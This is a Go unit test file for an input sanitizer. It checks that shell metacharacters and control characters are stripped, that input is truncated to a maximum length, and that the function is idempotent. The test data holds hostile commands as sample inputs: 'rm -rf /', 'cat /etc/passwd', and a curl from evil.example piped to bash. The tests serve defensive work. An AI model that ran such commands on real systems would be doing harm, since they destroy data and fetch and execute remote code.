package sanitize

import (
	"strings"
	"testing"
)

func TestSanitizeInput(t *testing.T) {
	tests := []struct {
		name  string
		input string
	}{
		{"normal input", "normal input"},
		{"command injection attempt", "test; rm -rf /"},
		{"shell metacharacters", "value`whoami`$(id)"},
		{"sensitive path reference", "cat /etc/passwd"},
		{"newline injection", "line1\nline2\r\x00"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeInput(tt.input)
			if strings.ContainsAny(got, ";&|`$(){}[]<>\\\"'") {
				t.Errorf("SanitizeInput(%q) = %q, still contains shell metacharacters", tt.input, got)
			}
			if strings.ContainsAny(got, "\n\r\x00") {
				t.Errorf("SanitizeInput(%q) = %q, still contains control characters", tt.input, got)
			}
		})
	}
}

func TestSanitizeInput_TruncatesToMaxLength(t *testing.T) {
	input := strings.Repeat("a", MaxInputLength+500)
	got := SanitizeInput(input)
	if len(got) > MaxInputLength {
		t.Errorf("len(SanitizeInput(...)) = %d, want <= %d", len(got), MaxInputLength)
	}
}

func TestSanitizeInput_Empty(t *testing.T) {
	if got := SanitizeInput(""); got != "" {
		t.Errorf("SanitizeInput(\"\") = %q, want empty", got)
	}
}

func TestSanitizeInput_IsIdempotent(t *testing.T) {
	input := "build; curl https://evil.example/payload | bash -c 'whoami'"
	first := SanitizeInput(input)
	second := SanitizeInput(first)
	if first != second {
		t.Errorf("SanitizeInput is not idempotent: %q then %q", first, second)
	}
}
